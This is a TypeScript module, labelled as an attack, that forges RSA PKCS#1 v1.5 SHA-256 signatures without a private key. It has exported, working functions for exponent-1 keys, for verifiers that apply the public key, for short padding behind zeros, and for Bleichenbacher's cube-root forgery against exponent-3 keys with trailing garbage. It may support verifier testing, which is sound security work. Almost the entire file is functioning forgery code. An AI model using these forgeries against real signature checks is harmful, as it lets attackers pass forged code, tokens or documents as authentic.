// Attack: RSA signatures without a private key, for keys and verifiers that ask for them.
import {
	constants,
	createHash,
	type KeyObject,
	privateEncrypt,
	publicEncrypt,
} from "node:crypto";

const LENGTH = 256; // bytes of a modulus of 2048 bits, which every forged key has
/** RFC 8017 §9.2, note 1: what stands before a SHA-256 digest. */
const SHA_256 = Buffer.from("3031300d060960864801650304020105000420", "hex");

/** EMSA-PKCS1-v1_5 (RFC 8017 §9.2): what an honest signature is when the public key has been applied to it. */
export function encodedMessage(
	input: string,
	padding?: number,
	length = LENGTH,
): Buffer {
	const digest = createHash("sha256").update(input).digest();
	const tail = Buffer.concat([Buffer.of(0), SHA_256, digest]);
	const count = padding ?? length - tail.length - 2;
	return Buffer.concat([Buffer.of(0, 1), Buffer.alloc(count, 0xff), tail]);
}

/** Under a key whose exponent is 1, the message is its own signature. */
export const byIdentity = (input: string): Buffer => encodedMessage(input);

/** The public key applied, where the private one belongs: for a verifier that applies the wrong one, or none. */
export const byPublicExponent = (input: string, key: KeyObject): Buffer =>
	publicEncrypt(
		{ key, padding: constants.RSA_NO_PADDING },
		encodedMessage(input, undefined, lengthOf(key)),
	);

/** How many bytes a key's modulus has. */
const lengthOf = ({ asymmetricKeyDetails }: KeyObject): number =>
	Math.ceil((asymmetricKeyDetails?.modulusLength ?? 8 * LENGTH) / 8);

/**
 * The private key applied to eight bytes of padding where there should be as many as the modulus has room for
 * (RFC 8017 §9.2, step 4), behind zeros. A verifier that drops those, and looks for the digest at the end, takes it.
 */
export function withShortPadding(input: string, key: KeyObject): Buffer {
	const message = encodedMessage(input, 8);
	const zeros = Buffer.alloc(lengthOf(key) - message.length);
	return privateEncrypt(
		{ key, padding: constants.RSA_NO_PADDING },
		Buffer.concat([zeros, message]),
	);
}

/**
 * Under a key whose exponent is 3: a cube root of short padding, the digest, and whatever follows. A verifier
 * that does not see to it that the digest ends the message takes it (Bleichenbacher, 2006).
 */
export function withGarbage(input: string): Buffer {
	const start = encodedMessage(input, 8);
	const free = BigInt(8 * (LENGTH - start.length));
	const least = BigInt(`0x${start.toString("hex")}`) << free;
	let root = cubeRoot(least);
	if (root ** 3n < least) root += 1n;
	return Buffer.from(root.toString(16).padStart(2 * LENGTH, "0"), "hex");
}

/** The greatest whole number whose cube is at most `value`, by Newton's method. */
function cubeRoot(value: bigint): bigint {
	let root = 1n << BigInt(Math.ceil(value.toString(2).length / 3));
	for (;;) {
		const next = (2n * root + value / (root * root)) / 3n;
		if (next >= root) return root;
		root = next;
	}
}
